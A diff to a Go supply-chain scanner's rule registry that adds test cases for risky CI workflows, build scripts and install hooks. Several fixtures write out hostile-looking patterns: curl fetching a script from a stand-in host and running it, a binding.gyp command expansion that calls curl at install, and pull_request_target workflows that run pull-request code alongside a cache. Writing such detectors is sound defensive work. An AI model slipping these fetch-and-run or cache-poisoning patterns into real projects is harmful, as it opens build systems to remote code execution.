@@ -217,6 +217,9 @@ var registry = []Rule{
 		{"install.js", "const axios = require('axios')\nfunction opts(u) {\n  /** @type import('axios').AxiosRequestConfig */\n  return { url: u }\n}", 0, true},
 		// A download unpacked by tar through its stdin is not run.
 		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/t.tgz\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"tar\", \"xz\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 0, true},
+		// A JSDoc type naming the HTTP client's module loads nothing; the
+		// same import outside the comment would.
+		{"install.js", "const axios = require('axios');\nclass Installer {\n  getRequestOptions(downloadPath) {\n    /** @type import('axios').AxiosRequestConfig */\n    const options = { url: downloadPath, method: 'GET' };\n    return options;\n  }\n}", 0, true},
 		// A step's run given as a YAML alias is the anchored text, run in
 		// that step's turn.
 		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: *fetch\n      - run: bash /tmp/p.sh", 8, false},
@@ -470,6 +473,10 @@ var registry = []Rule{
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
 			{"x.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 0, false},
+			// A URL a job's matrix gives: the installer of every value the
+			// matrix lists, each from the vendor's own host.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        include:\n          - ghcup: https://downloads.haskell.org/~ghcup/x86_64-linux-ghcup\n          - ghcup: https://downloads.haskell.org/~ghcup/aarch64-linux-ghcup\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -sSf ${{ matrix.ghcup }} > /usr/bin/ghcup\n          chmod +x /usr/bin/ghcup\n          ghcup install ghc", 14, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        include:\n          - ghcup: https://downloads.haskell.org/~ghcup/x86_64-linux-ghcup\n          - ghcup: https://x.invalid/ghcup\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -sSf ${{ matrix.ghcup }} > /usr/bin/ghcup\n          chmod +x /usr/bin/ghcup\n          ghcup install ghc", 0, true},
 			// A well-known owner's installer from its own repository, and a
 			// tool's documented installer from the tool's own site.
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
@@ -736,6 +743,11 @@ var registry = []Rule{
 			// at every build whatever the URL then serves.
 			{"settings.gradle.kts", "pluginManagement {\n    repositories { gradlePluginPortal() }\n}\napply(from = \"https://raw.githubusercontent.com/someone/conventions/main/ci.gradle.kts\")", 4, false},
 			{"build.gradle", "apply from: 'gradle/publish.gradle'\napply from: \"$rootDir/gradle/lint.gradle\"", 0, true},
+			// A build script asking a local tool for flags (curl-config,
+			// a library named curl compiled from the tree) fetches nothing;
+			// the same script starting curl on a URL does.
+			{"build.rs", "use std::process::Command;\nfn main() {\n    let out = Command::new(\"curl-config\").arg(\"--features\").output();\n    cc::Build::new().file(\"curl/lib/easy.c\").compile(\"curl\");\n}", 0, true},
+			{"build.rs", "use std::process::Command;\nfn main() {\n    let out = Command::new(\"curl\").arg(\"-fsSL\").arg(\"https://x.invalid/p\").output();\n}", 3, false},
 			// A gyp command expansion runs while npm installs the package.
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
@@ -834,6 +846,18 @@ var registry = []Rule{
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+			// Every action that saves a cache, the setup actions' cache:
+			// input too; pull_request saves into the pull request's own
+			// scope (medium), a runner's without the head checked out is
+			// the project's own code.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/setup-python@v5\n        with:\n          cache: pip\n      - run: pip install -e .", 9, false},
+			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: Swatinem/rust-cache@v2\n      - run: cargo test", 9, false},
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          cache: npm\n      - run: npm ci", 0, true},
+			// A hunk that shows the pull request's head checked out and run,
+			// and then a cache saved, without the trigger: the trigger may
+			// be pull_request_target, whose cache is the base branch's.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -10,4 +10,8 @@ jobs:\n         with:\n           ref: ${{ github.event.pull_request.head.sha }}\n       - run: npm ci && npm run build\n+      - uses: actions/cache/save@v4\n+        with:\n+          path: node_modules\n+          key: deps-${{ hashFiles('package-lock.json') }}\n       - run: npm test\n", 13, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -10,3 +10,7 @@ jobs:\n       - uses: actions/checkout@v4\n       - run: npm ci && npm run build\n+      - uses: actions/cache/save@v4\n+        with:\n+          path: node_modules\n+          key: deps-${{ hashFiles('package-lock.json') }}\n       - run: npm test\n", 0, true},
 			// A key the pull request names picks the entry; a hunk that does
 			// not show the trigger may be under one that saves into the
 			// default branch's scope.
@@ -1452,9 +1476,12 @@ var registry = []Rule{
 		"whoever owns the action can move the tag, and their code then runs with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: acme/deploy-action@v1", 4, false},
 		}},
-	{"gha-unpinned-branch", KindCIFile, High, "uses a third-party action at a branch or with no version",
+	{"gha-unpinned-branch", KindCIFile, Medium, "uses a third-party action at a branch or with no version",
 		"the action's branch, whatever it holds at run time, runs with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: acme/deploy-action@main", 4, false},
+			// An organisation's shared workflow at its branch, handed the
+			// write token on pull_request_target: still the owner's code.
+			{".github/workflows/a.yml", "on: pull_request_target\npermissions:\n  contents: write\njobs:\n  a:\n    uses: acme/.github/.github/workflows/merge.yml@main\n    secrets: inherit", 6, false},
 		}},
 	{"gha-first-party-tag", KindCIFile, Low, "uses a GitHub action by tag, not commit SHA",
 		"a tag can be moved to other code; GitHub's own actions are the ones every workflow already trusts", nil},
@@ -1472,10 +1499,16 @@ var registry = []Rule{
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,2 @@\n-FROM python:3.12@sha256:" + strings.Repeat("a", 64) + "\n+FROM python:3.12\n RUN pip install .\n", 1, false},
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,2 @@\n-FROM python:3.12@sha256:" + strings.Repeat("a", 64) + "\n+FROM python:3.13@sha256:" + strings.Repeat("b", 64) + "\n RUN pip install .\n", 1, true},
 		}},
-	{"gha-pin-removed", KindCIFile, High, "replaces an action's commit-SHA pin with a tag or branch",
+	{"gha-pin-removed", KindCIFile, High, "replaces an action's commit-SHA pin, or the repository's own action or workflow, with a tag or branch",
 		"the pin fixed the code that runs; a tag can be moved to any commit by whoever controls the action (as in the tj-actions and reviewdog compromises), and its code runs with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@v2\n", 2, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@v1\n+  - uses: acme/act@v2\n", 2, true},
+			// The repository's own workflow, in the tree under review,
+			// swapped for another owner's at a branch.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,3 +1,3 @@\n jobs:\n   release:\n-    uses: ./.github/workflows/_release.yml\n+    uses: acme/workflows/.github/workflows/release.yml@main\n", 3, false},
+			// Moving to another of the repository's own, or to a SHA.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,3 +1,3 @@\n jobs:\n   release:\n-    uses: ./.github/workflows/_release.yml\n+    uses: ./.github/workflows/release.yml\n", 3, true},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,3 +1,3 @@\n jobs:\n   release:\n-    uses: ./.github/workflows/_release.yml\n+    uses: acme/workflows/.github/workflows/release.yml@1111111111111111111111111111111111111111\n", 3, true},
 		}},
 	{"gha-pinned-unchecked", KindCIFile, Low, "pins an action to a commit SHA (not checked against the action's repository)",
 		"a SHA from a fork can be addressed through the action's name; offline, vetter could not ask GitHub whether this commit is the action's own", nil},
